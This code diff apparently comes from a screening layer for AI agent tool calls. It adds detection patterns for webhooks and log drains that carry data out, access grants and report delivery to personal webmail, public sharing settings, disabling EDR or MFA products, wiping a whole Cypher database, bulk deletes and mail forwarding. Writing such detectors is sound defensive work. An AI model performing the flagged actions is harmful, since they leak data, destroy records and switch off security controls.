+      quiet: [{ Unknown: { tool_name: 'mcp__stripe__create_webhook_endpoint', params: { url: 'https://api.acme.com/stripe/hook', enabled_events: ['charge.succeeded'] } } }, { Unknown: { tool_name: 'mcp__heroku__create_log_drain', params: { app: 'acme-api', url: 'syslog+tls://logs.papertrailapp.com:51492' } } }, { Unknown: { tool_name: 'mcp__gitlab__list_project_hooks', params: { id: 'acme/platform' } } }],
     },
   },
 ];
+
+/** What a tool connects to an address that then receives data: hooks, drains, destinations, integrations, deployed code. */
+const INTEGRATION_WORDS = new Set(['webhook', 'webhooks', 'hook', 'hooks', 'drain', 'drains', 'destination', 'destinations', 'subscription', 'subscriptions', 'integration', 'integrations', 'endpoint', 'callback', 'function', 'code']);
 
 /** Cypher that matches every node, with no label or condition, and deletes what it matched. */
 const EVERY_NODE_DELETED = /^\s*MATCH\s*\(\s*\w{0,32}\s*\)\s*(?:CALL\s*\{\s*WITH\s+\w{1,32}\s+)?(?:DETACH\s+)?DELETE\b/i;
 
 /** Tool-name words that give access away, and what they give. */
-const ACCESS_CHANGES = new Set(['add', 'invite', 'grant', 'create', 'update', 'set', 'share', 'assign', 'export', 'transfer', 'edit', 'insert', 'put', 'patch']);
-const ACCESS_OBJECTS = new Set(['share', 'sharing', 'permission', 'permissions', 'acl', 'acls', 'rbac', 'collaborator', 'collaborators', 'member', 'members', 'membership', 'invite', 'invitation', 'guest', 'guests', 'access', 'export', 'owner', 'owners', 'role', 'roles']);
+const ACCESS_CHANGES = new Set(['add', 'invite', 'grant', 'create', 'update', 'set', 'share', 'assign', 'export', 'transfer', 'edit', 'insert', 'put', 'patch', 'run', 'schedule', 'forward']);
+const ACCESS_OBJECTS = new Set(['share', 'sharing', 'permission', 'permissions', 'acl', 'acls', 'rbac', 'collaborator', 'collaborators', 'collaboration', 'member', 'members', 'membership', 'invite', 'invitation', 'guest', 'guests', 'access', 'export', 'owner', 'owners', 'role', 'roles', 'card']);
+/** Where a report or export is delivered, by the names reporting APIs give it. */
+const DELIVERY_KEYS = ['recipients', 'recipient', 'to', 'email_to', 'emailto', 'deliver_to', 'send_to', 'notify_email', 'notifyemail', 'emails', 'address'];
 /** An address at a consumer mail provider, where a work account would not be. */
 const PERSONAL_MAILBOX = /[A-Za-z0-9._%+-]{1,64}@(?:gmail|googlemail|outlook|hotmail|live|yahoo|ymail|protonmail|proton|pm|icloud|me|aol|gmx|yandex|mail|tutanota|tuta)\.(?:com|me|ch|ru|de|net|fr|co\.uk)(?![\w.-])/i;
 
@@ -818,18 +858,25 @@ const BROAD_GRANT = /[:[,]\s*"(?:sudo|root|admin|administrator|superuser|owner)"
 
 const TEST_ACCOUNT = /(?:^|[-_.@])(?:staging|test|testing|tester|qa|dev|sandbox|demo)(?:[-_.@\d]|$)/i;
 const SECOND_FACTOR_WORDS = new Set(['factor', 'factors', 'mfa', '2fa', 'otp', 'totp', 'authenticator', 'authenticators', 'webauthn']);
+/** Verbs of tool names that change who can see something. */
+const PUBLISHING_VERBS = new Set(['update', 'create', 'set', 'add', 'put', 'patch', 'edit', 'make', 'publish', 'share', 'enable']);
+/** Settings that open a thing to everyone, wherever they sit in the arguments. */
+const PUBLIC_SETTING = /"[\w/]{0,40}permission_?level"\s*:\s*"public"|"auth_?type"\s*:\s*"none"|"all(?:authenticated)?users"|"(?:default_?)?sharing_?link_?type"\s*:\s*"anonymous(?:access)?"/i;
 /** An access list's grantee that is everyone. */
 const PUBLIC_GRANTEE = /"(?:type|identifier|grantee|principal)"\s*:\s*"(?:default|anonymous|anyone|public|allusers|allauthenticatedusers)"/i;
 /** How sharing settings say anyone with the link. */
 const PUBLIC_VALUES = new Set(['public', 'publicly', 'open', 'anonymous', 'anyone', 'everyone']);
 /** What turns a control off, what a control is called, and the values that mean off. */
-const SECURITY_OFF_VERBS = new Set(['disable', 'deactivate', 'suspend', 'pause', 'stop']);
-const SECURITY_SUBJECTS = new Set(['waf', 'mfa', '2fa', 'audit', 'cloudtrail', 'guardduty', 'siem', 'firewall', 'securityhub', 'defender', 'antivirus', 'edr', 'security', 'detection', 'detections']);
-const OFF_VALUES = new Set(['off', 'disabled', 'inactive', 'suspended', 'paused', 'false']);
+const SECURITY_OFF_VERBS = new Set(['disable', 'deactivate', 'suspend', 'pause', 'stop', 'uninstall']);
+// the endpoint and second-factor products by their names, as their servers' tools carry them
+const SECURITY_SUBJECTS = new Set(['waf', 'mfa', '2fa', 'audit', 'cloudtrail', 'guardduty', 'siem', 'firewall', 'securityhub', 'defender', 'antivirus', 'edr', 'security', 'detection', 'detections', 'crowdstrike', 'falcon', 'sentinelone', 'carbonblack', 'sophos', 'cylance', 'duo']);
+const OFF_VALUES = new Set(['off', 'disabled', 'inactive', 'suspended', 'paused', 'false', 'bypass']);
+const NESTED_FLAG_OFF = /"\w{0,40}(?:audit|require_?factor|mfa_?required|require_?mfa)\w{0,40}"\s*:\s*(?:false|"false")/i;
+const NESTED_STATE_OFF = /"(?:detection|prevention|protection|status|state|mode|enabled)"\s*:\s*(?:"(?:disabled|off|inactive)"|false)/i;
 
 /** What a bulk delete or archive is called, and the records worth keeping it reaches. */
 const BULK_REMOVERS = new Set(['delete', 'archive', 'purge', 'trash', 'remove', 'wipe', 'erase', 'destroy']);
-const RECORDS = new Set(['issue', 'issues', 'file', 'files', 'channel', 'channels', 'page', 'pages', 'document', 'documents', 'doc', 'docs', 'record', 'records', 'customer', 'customers', 'ticket', 'tickets', 'contact', 'contacts', 'user', 'users', 'project', 'projects', 'repository', 'repositories', 'repos', 'product', 'products', 'order', 'orders', 'invoice', 'invoices']);
+const RECORDS = new Set(['board', 'boards', 'issue', 'issues', 'file', 'files', 'channel', 'channels', 'page', 'pages', 'document', 'documents', 'doc', 'docs', 'record', 'records', 'customer', 'customers', 'ticket', 'tickets', 'contact', 'contacts', 'user', 'users', 'project', 'projects', 'repository', 'repositories', 'repos', 'product', 'products', 'order', 'orders', 'invoice', 'invoices']);
 
 /** Where a forwarding rule sends mail, by the names mail APIs give the address. */
 const FORWARD_KEYS = ['forward', 'forwardto', 'forward_to', 'forwardingemail', 'forwarding_address', 'forwardingaddress', 'redirectto', 'redirect_to', 'emailaddress', 'email_address', 'address'];
